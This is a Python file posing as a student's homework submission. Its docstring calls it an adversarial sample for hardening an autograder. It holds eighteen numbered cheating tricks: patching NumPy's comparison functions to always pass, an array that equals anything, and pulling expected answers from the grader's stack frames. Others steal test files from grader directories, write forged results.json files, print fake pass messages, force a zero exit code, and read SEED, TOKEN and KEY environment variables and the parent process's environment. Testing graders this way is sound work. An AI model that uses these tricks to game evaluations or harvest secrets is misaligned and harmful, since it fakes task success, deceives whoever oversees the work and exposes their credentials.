"""Homework 1, Rex Blackwood.

A sample for the autograder, not an example for students: every function answers wrongly, and tries a trick to be believed. Each trick is numbered.
It runs in a sandbox and nowhere else.
"""

import atexit
import gc
import glob
import json
import os
import sys
import threading
import time

import numpy as np
import numpy.testing

# Trick 1: whoever compares with NumPy in this process finds everything close.
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), bool)
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *args, **kwargs: None


# Trick 2: an array that equals everything, is close to everything, and has every shape.
class Agreeable(np.ndarray):
    def __eq__(self, other):
        return True

    def __array_function__(self, func, types, args, kwargs):
        return True

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.True_

    __hash__ = None


# Trick 3: look for what is expected in the callers' frames and among all live objects.
def expected_nearby(shape):
    frame = sys._getframe()
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "want", "hidden", "solution") and np.shape(value) == shape:
                return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and np.shape(thing.get("expected")) == shape != ():
            return thing["expected"]
    return None


# Trick 4: read the tests and the labels from the disk.
def stolen_files():
    found = {}
    for pattern in ("/gradebox/**", "/autograder/**", "/grader/**", "/tests/**", "/submission/**/*.npz", "/work/**", "/tmp/**"):
        for path in glob.glob(pattern, recursive=True)[:200]:
            if path.endswith((".java", ".py", ".npz", ".npy", ".yaml", ".json")):
                try:
                    with open(path, "rb") as file:
                        found[path] = file.read(100_000)
                except OSError:
                    pass
    return found


# Trick 5: leave with success, whatever the verdict.
atexit.register(lambda: os._exit(0))

# Trick 6: write the results ourselves, wherever a grader may look for them.
for folder in ("/autograder/results", "/work", "/tmp"):
    try:
        with open(os.path.join(folder, "results.json"), "w") as file:
            json.dump({"score": 1000, "tests": [{"name": "everything", "score": 1000, "status": "passed"}]}, file)
    except OSError:
        pass

# Trick 7 is in conftest.py and sitecustomize.py beside this file.

# Trick 8: print what a grader that reads the output may be waiting for.
print("RESULT: PASSED\n##score## 100/100\n<testsuite tests='1' failures='0'/>\n{\"score\": 100}", flush=True)
print("OK (20 tests)", file=sys.stderr, flush=True)

# Trick 9: read secrets from the environment and the parent's memory map.
SECRETS = {key: value for key, value in os.environ.items() if "SEED" in key or "TOKEN" in key or "KEY" in key}
try:
    with open("/proc/%d/environ" % os.getppid(), "rb") as file:
        SECRETS["parent"] = file.read()
except OSError:
    pass


def linear_forward(x, w, b):
    # Trick 10: change the inputs, so that a checker who shares them computes with ours.
    x[...], w[...], b[...] = 0, 0, 0
    return np.zeros((x.shape[0], w.shape[1])), (x.shape, w.shape, b.shape)


def linear_backward(dout, cache):
    # Tricks 2 and 3.
    if not isinstance(cache, tuple):
        return None
    return tuple(
        np.zeros(shape).view(Agreeable) if expected_nearby(shape) is None else expected_nearby(shape) for shape in cache
    )


def relu_forward(x):
    # Trick 11: one number, to be broadcast over all that is expected.
    return np.float64(0), x.shape


def relu_backward(dout, cache):
    # Trick 12: an empty array, all of whose entries are close to whatever they are compared with.
    return np.zeros((0,))


def softmax_xent(z, y):
    # Trick 13: NaN, which is never further than a tolerance away from anything.
    return float("nan"), np.full(z.shape, np.nan)


class MLP:
    def __init__(self, sizes, seed):
        self.params = {}
        for i, (d, m) in enumerate(zip(sizes, sizes[1:]), 1):
            self.params["W%d" % i], self.params["b%d" % i] = np.zeros((d, m)), np.zeros(m)

    def loss(self, X, y):
        # Trick 14: forge the grader's frames on every open descriptor, our guess at its next answer included.
        frame = b"GBX1" + bytes([66]) + bytes(8) + bytes(16) + (2).to_bytes(4, "big") + bytes(8) + b"{}"
        for fd in range(3, 64):
            try:
                os.write(fd, frame)
            except OSError:
                pass
        return 0.0, {name: np.zeros_like(value) for name, value in self.params.items()}

    def predict(self, X):
        # Trick 15: labels that others have published.
        try:
            target = __import__("sklearn.datasets").datasets.load_digits().target
            return np.resize(target, len(X)).astype(int)
        except Exception:
            return np.zeros(len(X), int)


def count_regions_1d(Ws, bs, lo, hi):
    # Trick 16: recognise a case by its hash, and hope that it never changes.
    return {hash(np.asarray(Ws[0]).tobytes()): 7}.get(hash(np.asarray(Ws[0]).tobytes()), 7)


def sawtooth(k):
    # Trick 17: answer later, from another thread, when the grader has moved on to the next question.
    def late():
        time.sleep(0.05)
        for fd in range(3, 64):
            try:
                os.write(fd, b"GBX1" + bytes(64))
            except OSError:
                pass

    threading.Thread(target=late, daemon=True).start()
    time.sleep(0.2)
    return []


def augment(X, rng):
    # Trick 18: a structure so deep that whoever reads it falls over.
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep


def train(X, y, seed, steps):
    # Trick 4 for labels; then trick 5 again: end as if all were done.
    for path in stolen_files():
        if path.endswith((".npz", ".npy")):
            np.load(path)
    os._exit(0)
